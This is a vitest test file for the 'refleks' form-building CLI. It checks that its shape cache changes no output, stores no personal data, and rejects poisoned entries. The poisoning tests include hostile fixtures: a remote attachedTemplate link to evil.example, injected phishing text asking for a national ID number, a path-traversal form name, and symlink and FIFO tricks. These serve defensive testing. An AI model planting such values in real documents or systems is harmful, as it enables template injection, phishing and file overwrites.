/**
 * The cache of rendered form shapes on disk: it changes no byte of the forms,
 * spares a warm run from loading docx at all, and holds no personal data.
 */
import { spawnSync } from 'node:child_process';
import { createHmac } from 'node:crypto';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { BIN, copyWorkspace, ROOT, runCli, runCliProcess, treeHashes } from '../helpers/cli.js';

const EPOCH = { SOURCE_DATE_EPOCH: '1798761600' };
const MAGIC = 'refleks-shape v3\n';

/** The entries a cache folder holds (not its key). */
const entries = (cache: string) =>
  readdirSync(join(cache, 'forms'))
    .filter((f) => f.endsWith('.shape'))
    .map((f) => join(cache, 'forms', f));

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Entry = any;
const unpack = (bytes: Buffer): Entry => JSON.parse(gunzipSync(bytes.subarray(MAGIC.length + 32)).toString('utf8'));
/** An entry signed with the cache's own key, as a process of the same user could write it. */
function pack(cache: string, entry: Entry): Buffer {
  const body = gzipSync(JSON.stringify(entry));
  const key = readFileSync(join(cache, 'forms', 'hmac.key'));
  return Buffer.concat([Buffer.from(MAGIC), createHmac('sha256', key).update(body).digest(), body]);
}

describe('the shape cache', () => {
  it('gives the same forms as no cache, cold and warm', () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    const off = copyWorkspace();
    const cold = copyWorkspace();
    const warm = copyWorkspace();
    expect(runCliProcess(['forms'], { cwd: off, env: EPOCH }).code).toBe(0);
    expect(
      runCliProcess(['forms'], { cwd: cold, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
    ).toBe(0);
    expect(readdirSync(join(cache, 'forms')).length).toBeGreaterThan(0);
    expect(
      runCliProcess(['forms'], { cwd: warm, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
    ).toBe(0);
    const want = treeHashes(join(off, 'ut'));
    expect(Object.keys(want).length).toBeGreaterThan(30);
    expect(treeHashes(join(cold, 'ut'))).toEqual(want);
    expect(treeHashes(join(warm, 'ut'))).toEqual(want);
  });

  it('holds no names, e-mail addresses, places or dates of the groups', () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    const ws = copyWorkspace();
    expect(
      runCliProcess(['build'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } }).code,
    ).toBe(0);
    const stored = entries(cache)
      .map((f) => JSON.stringify(unpack(readFileSync(f))))
      .join('\n');
    const secrets: string[] = [];
    for (const f of readdirSync(join(ws, 'groups'))) {
      const g = parse(readFileSync(join(ws, 'groups', f), 'utf8'));
      for (const p of [g.facilitator, g.co_facilitator, g.leader, ...g.participants].filter(Boolean))
        secrets.push(p.name, ...(p.email ? [p.email] : []));
      secrets.push(g.name, g.location.room, g.location.address);
    }
    secrets.push('Lillevik kommune', '12. januar 2027', '12.01.2027');
    for (const s of secrets) expect(stored, s).not.toContain(s);
  });

  it('spares a warm run from loading docx', () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    const env = { ...process.env, ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache, NO_COLOR: '1' };
    const traced = (cwd: string) => {
      const log = join(mkdtempSync(join(tmpdir(), 'refleks-trace-')), 'imports.txt');
      writeFileSync(log, '');
      const r = spawnSync(process.execPath, ['--import', join(ROOT, 'tests/helpers/trace-imports.mjs'), BIN, 'build'], {
        cwd,
        encoding: 'utf8',
        env: { ...env, REFLEKS_TRACE_IMPORTS: log },
      });
      expect(r.status, r.stderr).toBe(0);
      return readFileSync(log, 'utf8');
    };
    expect(traced(copyWorkspace())).toContain('/node_modules/docx/');
    expect(traced(copyWorkspace())).not.toContain('/node_modules/docx/');
  });
});

describe('the shapes built into refleks', () => {
  /** A group like the ones `npm run build` renders: built-in programme, recommended size, no logo, no holiday in its way. */
  function typicalWorkspace(): string {
    const ws = mkdtempSync(join(tmpdir(), 'refleks-typical-'));
    writeFileSync(
      join(ws, 'refleks.yaml'),
      'organisation: Fjordvik kommune\norganiser: { name: Eva Kurs, email: eva.kurs@fjordvik.kommune.no }\n',
    );
    mkdirSync(join(ws, 'groups'));
    writeFileSync(
      join(ws, 'groups', 'sone-vest.yaml'),
      [
        'name: Sone vest',
        'programme: rehabilitering',
        'facilitator: { name: Kari Vik, email: kari.vik@fjordvik.kommune.no, role: Sykepleier }',
        'leader: { name: Ole Dal, email: ole.dal@fjordvik.kommune.no }',
        'participants:',
        ...['Åse Ødegård', 'Per «Pelle» Li', 'Fatima Ali', 'Jon Berg', 'Siri Moe'].map(
          (name, i) => `  - { name: ${name}, email: p${i}@fjordvik.kommune.no }`,
        ),
        'location: { room: "Helsehuset, rom 3", address: "Kaigata 2, 6900 Fjordvik" }',
        'start: 2027-09-06',
        'time: "09:30"',
        '',
      ].join('\n'),
    );
    return ws;
  }

  it('spare the first build of a typical group from loading docx, and change no byte of its forms', () => {
    const env = { ...process.env, ...EPOCH, REFLEKS_CACHE: 'off', NO_COLOR: '1' };
    const build = (cwd: string, extra: Record<string, string> = {}) => {
      const log = join(mkdtempSync(join(tmpdir(), 'refleks-trace-')), 'imports.txt');
      writeFileSync(log, '');
      const r = spawnSync(process.execPath, ['--import', join(ROOT, 'tests/helpers/trace-imports.mjs'), BIN, 'build'], {
        cwd,
        encoding: 'utf8',
        env: { ...env, ...extra, REFLEKS_TRACE_IMPORTS: log },
      });
      expect(r.status, r.stderr).toBe(0);
      return readFileSync(log, 'utf8');
    };
    const built = typicalWorkspace();
    const rendered = typicalWorkspace();
    expect(build(built)).not.toContain('/node_modules/docx/');
    expect(build(rendered, { REFLEKS_BUILTIN_SHAPES: 'off' })).toContain('/node_modules/docx/');
    const forms = (ws: string) => treeHashes(join(ws, 'ut', 'sone-vest', 'skjema'));
    expect(Object.keys(forms(built))).toHaveLength(4 + 5);
    expect(forms(built)).toEqual(forms(rendered));
  });
});

/**
 * A cache entry never decides what a document says or where it goes (issue
 * 12, item 1): each poisoned cache gives the same bytes as no cache at all.
 */
describe('a poisoned shape cache', () => {
  const BASE = join(ROOT, 'tests', 'corpus', '_base');
  let clean: Record<string, string> | undefined;
  const cleanOutputs = async () => {
    if (!clean) {
      const ws = copyWorkspace(BASE);
      expect((await runCli(['forms'], { cwd: ws, env: EPOCH })).code).toBe(0);
      clean = treeHashes(join(ws, 'ut'));
      expect(Object.keys(clean).length).toBeGreaterThan(4);
    }
    return clean;
  };
  /** A cache with this workspace's shape in it. */
  const warmCache = async () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    const ws = copyWorkspace(BASE);
    expect(
      (await runCli(['forms'], { cwd: ws, env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache } })).code,
    ).toBe(0);
    expect(entries(cache)).toHaveLength(1);
    return cache;
  };
  const buildWith = async (cache: string, args: string[] = []) => {
    const ws = copyWorkspace(BASE);
    const r = await runCli([...args, 'forms'], {
      cwd: ws,
      env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache },
    });
    expect(r.code, r.stderr).toBe(0);
    return { r, ws, out: treeHashes(join(ws, 'ut')) };
  };
  const forged =
    (change: (e: Entry) => void, sign = true) =>
    async () => {
      const cache = await warmCache();
      const [file] = entries(cache);
      const bytes = readFileSync(file!);
      const entry = unpack(bytes);
      change(entry);
      if (sign) writeFileSync(file!, pack(cache, entry));
      else writeFileSync(file!, Buffer.concat([bytes.subarray(0, MAGIC.length + 32), gzipSync(JSON.stringify(entry))]));
      const { r, out } = await buildWith(cache, ['--debug']);
      expect(out).toEqual(await cleanOutputs());
      expect(r.stderr).toMatch(/ignorerer .*\.shape i mellomlageret/);
      // The entry is replaced by a sound one.
      expect(JSON.stringify(unpack(readFileSync(file!)))).not.toContain('fødselsnummer');
    };
  const documentOf = (e: Entry) => e.forms[0][1].find((p: Entry) => p.n === 'word/document.xml');

  it(
    'changed text (not signed by this user) is ignored',
    forged((e) => {
      const doc = documentOf(e);
      doc.p[0] = String(doc.p[0]).replace(
        '<w:body>',
        '<w:body><w:p><w:r><w:t>Ring 820 12 345 og oppgi fødselsnummer</w:t></w:r></w:p>',
      );
    }, false),
  );

  it(
    'an external relationship is ignored',
    forged((e) => {
      const rels = e.forms[0][1].find((p: Entry) => p.n === 'word/_rels/document.xml.rels');
      const xml = Buffer.from(rels.b, 'base64')
        .toString()
        .replace(
          '</Relationships>',
          '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        );
      rels.b = Buffer.from(xml).toString('base64');
    }),
  );

  it('a path as a form name is ignored, and nothing is written outside the forms folder', async () => {
    await forged((e) => {
      e.forms[0][0] = '../../../groups/evil.yaml';
    })();
  });

  it(
    'an empty list of forms is ignored',
    forged((e) => {
      e.forms = [];
    }),
  );

  it(
    'a token the shape does not have is ignored',
    forged((e) => {
      documentOf(e).p.push(4096);
    }),
  );

  it('an entry that is a FIFO does not hang the build', async () => {
    const cache = await warmCache();
    const [file] = entries(cache);
    rmSync(file!);
    expect(spawnSync('mkfifo', [file!]).status).toBe(0);
    const { out } = await buildWith(cache);
    expect(out).toEqual(await cleanOutputs());
  });

  it('a forms folder that is a symlink is refused, and nothing in its target is touched', async () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    const elsewhere = mkdtempSync(join(tmpdir(), 'refleks-elsewhere-'));
    for (let i = 0; i < 300; i++) writeFileSync(join(elsewhere, `${String(i).padStart(64, '0')}.shape`), `fil ${i}\n`);
    writeFileSync(join(elsewhere, 'arkiv.json.gz'), 'ikke refleks sin\n');
    const before = treeHashes(elsewhere);
    symlinkSync(elsewhere, join(cache, 'forms'));
    const { r, out } = await buildWith(cache);
    expect(out).toEqual(await cleanOutputs());
    expect(r.stderr).toContain(
      `advarsel: bruker ikke mellomlageret for skjemaoppsett i ${join(cache, 'forms')}: mappen er en symbolsk lenke`,
    );
    expect(treeHashes(elsewhere)).toEqual(before);
  });

  it('pruning removes only entries refleks wrote', async () => {
    const cache = await warmCache();
    for (let i = 0; i < 300; i++)
      writeFileSync(join(cache, 'forms', `${String(i).padStart(64, '0')}.shape`), `fil ${i}\n`);
    writeFileSync(join(cache, 'forms', 'arkiv.json.gz'), 'ikke refleks sin\n');
    const before = treeHashes(join(cache, 'forms'));
    rmSync(entries(cache).find((f) => !/\/0+\d+\.shape$/.test(f))!);
    await buildWith(cache);
    const after = treeHashes(join(cache, 'forms'));
    for (const [f, hash] of Object.entries(before))
      if (!f.endsWith('hmac.key') && /^0/.test(f)) expect(after[f], f).toBe(hash);
    expect(after['arkiv.json.gz']).toBe(before['arkiv.json.gz']);
  });

  it('a cache folder others can write to is refused with a message', async () => {
    const cache = mkdtempSync(join(tmpdir(), 'refleks-cache-'));
    chmodSync(cache, 0o775);
    const { r, out } = await buildWith(cache);
    expect(out).toEqual(await cleanOutputs());
    expect(r.stderr).toContain(
      `advarsel: bruker ikke mellomlageret for skjemaoppsett i ${cache}: mappen kan skrives av andre brukere (gruppe eller alle)`,
    );
    expect(r.stderr).toContain('chmod 700');
    expect(readdirSync(join(cache, 'forms'))).toEqual([]);
    const en = await runCli(['--lang', 'en', 'forms'], {
      cwd: copyWorkspace(BASE),
      env: { ...EPOCH, REFLEKS_CACHE: 'on', REFLEKS_CACHE_DIR: cache },
    });
    expect(en.stderr).toContain('warning: not using the form layout cache');
  });
});
